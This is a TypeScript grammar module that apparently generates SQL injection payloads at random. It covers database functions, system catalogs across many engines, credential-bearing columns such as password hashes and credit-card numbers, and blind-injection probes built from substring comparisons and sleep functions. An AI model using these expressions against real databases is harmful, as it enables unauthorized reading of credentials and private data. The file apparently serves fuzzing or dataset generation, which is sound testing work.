/** What an injected statement is made of: functions, system tables and literals of each database. */
import { lines, type Rules, words } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import { SQL_MANUAL } from "./sqli-functions.ts";

const SQL_FUNCTIONS = words`
  ascii char chr concat concat_ws substr substring mid left right length char_length count ifnull isnull nvl coalesce
  cast convert hex unhex ord lower upper ltrim trim replace reverse repeat rpad lpad group_concat string_agg md5 sha1
  floor ceil round rand pow power sqrt exp abs sign greatest least elt make_set field find_in_set if iif nullif decode
  benchmark sleep load_file compress aes_encrypt aes_decrypt bin conv crc32 database schema user version
  current_user session_user system_user connection_id last_insert_id row_count uuid_short to_base64 from_base64
  inet_aton updatexml extractvalue json_extract name_const export_set get_lock release_lock instr locate position
  strcmp soundex sysdate now curdate date_format unix_timestamp db_name db_id user_name suser_sname host_name
  object_id col_name is_srvrolemember has_dbaccess stuff patindex quotename nchar to_char to_number rawtohex
  initcap dbms_lock.sleep utl_inaddr.get_host_name pg_sleep pg_read_file pg_ls_dir lo_import query_to_xml array_to_string
  generate_series current_setting quote_literal randomblob load_extension sqlite_version typeof glob printf zeroblob
  group_id bit_and bit_or bit_xor bit_length std stddev variance var_pop datediff weekofyear makedate period_add
  polygon linestring multipoint geometrycollection st_latfromgeohash`;

export const EXPRESSIONS: Rules = {
  ...LEXICON,
  fn: [
    ["«fnusual»", 6],
    ["«fnmanual»", 4],
    ["«fnodd»", 1],
  ],
  fnusual: SQL_FUNCTIONS,
  fnmanual: SQL_MANUAL,
  fnodd: (rng) => rng.pick(SQL_MANUAL).replace(/[a-z]/g, (c) => (rng.chance(0.5) ? c.toUpperCase() : c)),
  /** A table or column of the victim. */
  tab: lines`
    «noun»
    «noun»
    «noun»
    «rnd»
    «noun»_«noun»
    «tabprefix»«noun»
    «rnd».«noun»
    \`«noun»\`
    [«noun»]
    "«noun»"
    dbo.«noun»
    «systable»
    «systable»`,
  tabprefix: words`tbl tbl_ tb_ t_ wp_ jos_ phpbb_ app_ my_ user_ admin_ sys_ web_ xoops_ ps_ oc_ drupal_ #__ v_`,
  col: lines`
    «noun»
    «noun»
    «noun»_«noun»
    «username|user_name|login|email|password|passwd|pass|pwd|user_pass|hash|salt|id|uid|name|token|secret|credit_card|cc_number|ssn|phone|isadmin|role|user_login»
    «syscolumn»
    *`,
  systable: lines`
    information_schema.«tables|columns|schemata|user_privileges|character_sets|routines|processlist|plugins|views|triggers|key_column_usage|statistics|engines|global_variables|system_users»
    INFORMATION_SCHEMA.«TABLES|COLUMNS|SCHEMATA|CHARACTER_SETS|PLUGINS|SYSTEM_USERS»
    mysql.«user|db|tables_priv|proc|func|innodb_table_stats»
    performance_schema.«threads|accounts|file_instances»
    sys.«schema_table_statistics|user_summary|databases|sysusers|tables|objects|columns|sql_logins|syslogins|server_principals|dm_exec_requests»
    master..«sysdatabases|sysobjects|syslogins|sysprocesses|syscharsets|sysmessages»
    master.«dbo.sysdatabases|sys.databases|dbo.spt_values»
    «sysobjects|syscolumns|sysusers|systypes|sysibm.systables|sysibm.sysdummy1|syscat.tables|syscat.columns|sysibm.sysversions|sysmaster:systables|sysmaster:sysdatabases»
    msdb..«backupset|sysjobs»
    pg_«catalog.pg_tables|catalog.pg_user|shadow|user|tables|class|database|stat_activity|catalog.pg_namespace|authid|roles|settings|proc|type»
    «all_tables|all_tab_columns|user_tables|user_tab_columns|all_users|dba_users|all_objects|user_objects|dba_tables|v$version|v$instance|v$session|v$database|sys.dual|dual|sys.all_tables|sys.user$|product_component_version|global_name|session_roles|user_sys_privs|role_privs»
    «sqlite_master|sqlite_sequence|sqlite_temp_master|sqlite_schema|pragma_table_info('«noun»')»
    «rdb$database|rdb$fields|rdb$relations|rdb$relation_fields|rdb$types|rdb$functions|mon$database|sec$users»
    «msysobjects|msysaccessobjects|MSysAccessStorage|msysqueries»
    «sysibm.sysschemata|sysibm.syscolumns|domain.domains|domain.columns|domain.tables|systables|syscolumns|sysusers|dbc.tables|dbc.dbcinfo|h2.users|iitables»`,
  syscolumn: words`
    table_name column_name table_schema schema_name privilege_type grantee is_grantable user host authentication_string
    tabname colname tbl_name sql usename passwd datname relname rolname rolpassword username password_hash name
    master.sys.fn_varbintohexstr(password_hash) banner owner object_name account_status rdb$field_name rdb$relation_name
    mon$user spare4 instance_name tbcreator definer @@version`,
  /** Something of one value worth reading. */
  scalar: lines`
    @@«version|datadir|basedir|hostname|servername|global.secure_file_priv|version_compile_os|tmpdir|max_allowed_packet|spid|language|port|user|identity|rowcount|servicename|version_comment»
    «version|database|user|current_user|schema|session_user|system_user|db_name|sqlite_version|current_database|inet_server_addr|pg_backend_pid|connection_id|suser_name|host_name|current_schema|now|rand|uuid»()
    «user|current_user|SESSION_USER|SYSTEM_USER|USER|sysdate|CURRENT_TIMESTAMP»
    «query»
    «query»
    «call»
    «castq»
    «str»
    «num»`,
  castq: lines`
    «IFNULL|COALESCE|NVL|ISNULL»(CAST(«col» AS «CHAR|NCHAR|VARCHAR(4000)|NVARCHAR(4000)|VARCHAR(10000)|TEXT»),««hexlit»|«q_»»)
    IFNULL(CAST(«col» AS CHAR),0x20)
    COALESCE(CAST(«col» AS CHARACTER(10000)),(CHR(32)))
    ISNULL(CAST(«col» AS NVARCHAR(4000)),CHAR(32))
    NVL(CAST(«col» AS VARCHAR(4000)),CHR(32))
    RTRIM(CAST(«col» AS CHAR(254)))
    («col»)::text
    concat(«col»,0x3a,«col»)
    concat_ws(«0x3a|char(58)|':'|0x7c|','»,«col»,«col»«,user()|»)
    group_concat(«distinct +|distinct |»«col»«| separator 0x«hexlong»| order by 1|,0x3a,«col»»)
    «col»||«q»:«q»||«col»
    «col»||chr(«num»)||«col»
    «col»+char(«num»)+«col»
    string_agg(«col»,',')
    listagg(«col»,',') within group (order by «small»)
    json_arrayagg(concat_ws(0x3a,«col»,«col»))
    (select*from(select name_const(«scalarfn»,1),name_const(«scalarfn»,1))a)`,
  q_: ["' '", "' '", "CHR(32)"],
  scalarfn: ["version()", "user()", "database()", "@@version"],
  query: lines`
    (SELECT «castq» FROM «tab»«where»«limit»)
    (SELECT «col» FROM «tab»«where»«limit»)
    (select «col» from «tab» where «col»=«lit»)
    (SELECT COUNT(«*|«col»|DISTINCT(«col»)|»«»)FROM «tab»)
    (SELECT COUNT(*) FROM «tab»)
    (SELECT «top»«col» FROM «tab»)
    (SELECT MID((«castq»),«int»,«int») FROM «systable»«limit»)
    (SELECT DISTINCT(«castq») FROM «systable»«limit»)
    (SELECT «num»)
    (select «scalarfn»)
    (SELECT «castq» FROM (SELECT «col»,ROWNUM AS «CAP|LIMIT» FROM «systable») WHERE «CAP|LIMIT»=«small»)
    (SELECT «fn»(«col») FROM «tab»«limit»)`,
  call: ["«fn»(«scalararg»)", "«fn»(«scalararg»,«num»)", "«fn»(«scalararg»,«num»,«num»)", "«fn»()"],
  scalararg: ["«col»", "«str»", "«num»", "«scalarfn»", "«query»", "«hexlit»", "«fn»(«col»)"],
  top: ["TOP «small» ", "top 1 ", "DISTINCT ", "«»", "FIRST 1 SKIP «small» ", "ALL "],
  where: [
    "«»",
    " WHERE «cmp»",
    " WHERE table_schema=«database()|«hexlit»|«str»»",
    " where table_name=««hexlit»|«str»»",
    " WHERE «col» LIKE «str»",
    " where «cmp» and «cmp»",
    " WHERE xtype=«q»U«q»",
    " where rownum=«small»",
  ],
  limit: [
    "«»",
    "«»",
    " LIMIT «digit»,1",
    " limit 1",
    " LIMIT 1 OFFSET «digit»",
    " limit «small»,«small»",
    " OFFSET «digit» ROWS FETCH NEXT 1 ROWS ONLY",
    " ORDER BY «small»",
  ],
  num: ["«int»", "«int»", "«small»", "«int4»", "-«int4»"],
  str: [
    "'«rnd»'",
    "'«Rnd»'",
    "'«letter»'",
    "'«noun»'",
    '"«rnd»"',
    "'%«rnd»%'",
    "'%'",
    "''",
    "«charcat»",
    "«hexlit»",
    "'«small»'",
    "'%«letter»%'",
  ],
  lit: ["«num»", "«str»", "null", "«hexlit»", "true", "NULL"],
  hexlit: [
    "0x«hexlong»",
    "0x«hexlong»«hexlong»",
    "x'«hexlong»'",
    "0x7«hex1»7«hex1»7«hex1»7«hex1»71",
    "0x3a",
    "0x27",
    "0x20",
    "0x5c",
    "0x«hex8»",
  ],
  charcat: lines`
    CHAR(«code»,«code»,«code»,«code»)
    char(«code»)
    CHR(«code»)||CHR(«code»)||CHR(«code»)||CHR(«code»)
    CHAR(«code»)+CHAR(«code»)+CHAR(«code»)+CHAR(«code»)+CHAR(«code»)
    (CHR(113)||CHR(«code»)||CHR(«code»)||CHR(«code»)||CHR(113))
    CONCAT(CHAR(«code»),CHAR(«code»),CHAR(«code»))
    concat(0x«hexlong»,0x«hexlong»)
    ASCII_CHAR(«code»)||ASCII_CHAR(«code»)||ASCII_CHAR(«code»)
    '«rnd2»'||'«rnd2»'
    '«rnd2»'+'«rnd2»'
    '«rnd2»' '«rnd2»'
    CONCAT('«rnd»','«rnd»')
    CONCAT(CONCAT('q«rnd»q',(«condcase»)),'q«rnd»q')
    unhex('«hexlong»')
    _latin1'«rnd»'
    N'«rnd»'`,
  code: (rng) => String(rng.int(45, 122)),
  condcase: lines`
    CASE WHEN («cmp») THEN «lit» ELSE «lit» END
    case «num» when «num» then «lit» else «lit» end
    SELECT (CASE WHEN («cmp») THEN 1 ELSE 0 END)
    SELECT (CASE WHEN («cmp») THEN «num» ELSE «num»*(SELECT «num» FROM «systable») END)
    SELECT (CASE WHEN («cmp») THEN «num» ELSE (SELECT «num» UNION SELECT «num») END)
    SELECT (CASE WHEN («cmp») THEN «num» ELSE 1/(SELECT 0) END)`,
  /** A condition. Many are constant, because that is how blindness is probed. */
  cmp: [
    ["«n=num»=«$n»", 6],
    ["«num»=«num»", 4],
    ["«num»«op»«num»", 3],
    ["'«s=rnd»'='«$s»'", 2],
    [
      "«num»«!=|<>|<=>|>=|<=|!<|!>|^=|:=| xor | div | mod | rlike | sounds like | is not | regexp binary »«num»",
      2,
    ],
    ["«letter»=«letter»,«n=small»=«$n»", 0.5],
    ["«fnmanual»(«scalararg»)«op»«num»", 1],
    ["«fnodd» («scalararg»)", 0.7],
    ["«col» is «not |»«null|true|false|unknown»", 0.7],
    ["«binary|BINARY|_utf8|_binary|N|x|b|q'[»'«rnd»'«op»«str»", 0.7],
    ["«num»e«digit»«op»«num»", 0.7],
    ["0x«hex4»«op»0x«hex4»", 0.7],
    ["«col»«->|->>|#>|#>>|@>|<@|?|@@|~|~*|!~|~~|!~~|-> '$.»«str»", 0.7],
    ["«scalar» «any|all|some»(select «num»)", 0.3],
    ["'«s=rnd2»'«op»'«$s»'", 1],
    ["«scalar»«op»«num»", 3],
    ["ASCII(SUBSTR«ING|»(«scalar»,«small»,1))«>|<|=|>=»«code»", 3],
    ["ORD(MID(«query»,«small»,1))«>|<|=| NOT BETWEEN 0 AND »«code»", 3],
    ["ASCII(SUBSTR(«query»,«small»,1))>«code»", 2],
    ["UNICODE(SUBSTRING(«query»,«small»,1))>«code»", 2],
    ["substr«ing|»(«scalar»,«small»,«small»)=«str»", 2],
    ["substring(«scalar» from «small» for 1)=«str»", 1],
    ["left(«scalar»,«small»)=«str»", 1],
    ["LENGTH(«scalar»)«op»«num»", 2],
    ["(select count(*) from «tab»)«>|>=|=»«digit»", 2],
    ["EXISTS(SELECT «*|1|«col»» FROM «tab»«where»)", 2],
    ["NOT «num»=«num»", 1],
    ["«col» IS «NOT |»NULL", 1],
    ["«col» LIKE «str»", 1],
    ["«scalar» «like|rlike|regexp|not like|similar to|sounds like|glob» «str»", 2],
    ["«num» BETWEEN «num» AND «num»", 1],
    ["«num» IN («num»,«num»)", 1],
    ["«num» in («query»)", 1],
    ["«true|1|'1'|not 0|not false|!0|~0|-1|2>1|1<2|1 is not null|1<>2|''=''|1 like 1»", 2],
    ["(«num»*«num»)=«big»", 1],
    ["json_«extract|value|query»('{\"«letter»\":«small»}','$.«letter»')«op»«num»", 0.7],
    ["json_«length|depth|valid|type»('{}')«op»«num»", 0.6],
    ["'{\"«letter»\":«small»}'::jsonb «<@|@>|?|-> '«letter»' =|@?» '{\"«letter»\":«small»}'::jsonb", 0.6],
    ["'{\"«letter»\":{\"«letter»\":«n=small»}}'->>'«letter»'='«$n»'", 0.5],
    ["json_array_length('[]')<=«num»", 0.4],
    ["«_binary|_utf8|_latin1|_ucs2|binary|collate»'«rnd»'='«rnd»'", 0.5],
    ["ascii(substr(«scalar»,«small»,1))«&|^|>>|<<»«small»", 0.7],
    ["«fn»(«scalararg»)«op»«lit»", 2],
    ["row(«num»,«num»)>(select count(*),«charcat» from «systable» group by «small»)", 1],
  ],
  op: ["=", "=", "=", ">", "<", "<>", "!=", ">=", " like ", " = ", "<=>", " rlike ", " = ", " > "],
};
